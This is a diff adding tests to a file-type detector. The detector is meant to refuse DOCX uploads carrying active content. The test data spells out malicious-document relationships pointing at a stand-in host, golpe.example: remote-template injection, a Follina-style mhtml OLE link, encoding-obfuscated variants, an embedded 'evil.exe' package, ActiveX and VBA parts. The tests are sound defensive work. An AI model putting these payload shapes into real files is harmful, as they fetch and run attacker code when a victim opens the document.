@@ -72,6 +72,70 @@ describe('detectFileKind: the type comes from the bytes', () => {
     });
   });
 
+  const rels = (relationship: string) =>
+    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
+  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const template = `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://golpe.example/modelo.dotm" TargetMode="External"/>`;
+  // [case, extra parts of a DOCX, verdict]: what acts when the file opens is refused, links are not.
+  it.each([
+    ['a remote template (template injection)', { 'word/_rels/settings.xml.rels': rels(template) }, 'active_content'],
+    [
+      'an external OLE object ("Follina")',
+      {
+        'word/_rels/document.xml.rels': rels(
+          `<Relationship Id="rId9" Type="${REL}/oleObject" Target="mhtml:http://golpe.example/x.html!x-usc:http://golpe.example/x.html" TargetMode="External"/>`,
+        ),
+      },
+      'active_content',
+    ],
+    [
+      'an external relationship spelled with references and a ">" in an attribute',
+      {
+        'word/_rels/settings.xml.rels': rels(
+          `<Relationship Target="http://golpe.example/a>b.dotm" Id='rId1' Type = '${REL}/attachedTemplate' TargetMode="&#69;xternal"/>`,
+        ),
+      },
+      'active_content',
+    ],
+    [
+      'a remote template in a UTF-16 relationship part',
+      { 'word/_rels/settings.xml.rels': Buffer.from(`\ufeff${rels(template)}`, 'utf16le') },
+      'active_content',
+    ],
+    [
+      'an embedded OLE object (a packaged program)',
+      { 'word/embeddings/oleObject1.bin': 'Package evil.exe' },
+      'active_content',
+    ],
+    [
+      'an embedded OLE object, percent-encoded name',
+      { 'word/embeddings/oleObject1%2Ebin': 'Package' },
+      'active_content',
+    ],
+    ['an ActiveX control', { 'word/activeX/activeX1.xml': '<ax:ocx/>' }, 'active_content'],
+    ['VBA under another letter case', { 'word/VBAProject.bin': 'Attribute VB_Name' }, 'macro'],
+    [
+      'a hyperlink to the store (fine)',
+      {
+        'word/_rels/document.xml.rels': rels(
+          `<Relationship Id="rId5" Type="${REL}/hyperlink" Target="https://lojadamaria.com.br/pedido/1001" TargetMode="External"/>`,
+        ),
+      },
+      null,
+    ],
+    ['an embedded chart workbook (fine)', { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': 'PK' }, null],
+  ] as const)('a DOCX with %s', (_, parts, verdict) => {
+    const check = detectFileKind(docx(parts), 'contrato.docx');
+    expect(check).toEqual(
+      verdict ? { ok: false, reason: verdict } : { ok: true, kind: 'docx', mime: expect.any(String) },
+    );
+  });
+
+  it('reads a bounded number of relationship parts', () => {
+    const parts = Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`word/_rels/p${i}.xml.rels`, rels('')]));
+    expect(detectFileKind(docx(parts), 'contrato.docx')).toEqual({ ok: false, reason: 'unknown' });
+  });
+
   it('refuses macro-enabled Office files and ZIPs that are not XLSX or DOCX', () => {
     expect(detectFileKind(xlsm(), 'pedidos.xlsx')).toEqual({ ok: false, reason: 'macro' });
     expect(detectFileKind(zip({ 'a.txt': 'oi' }), 'pedidos.xlsx')).toEqual({ ok: false, reason: 'unknown' });
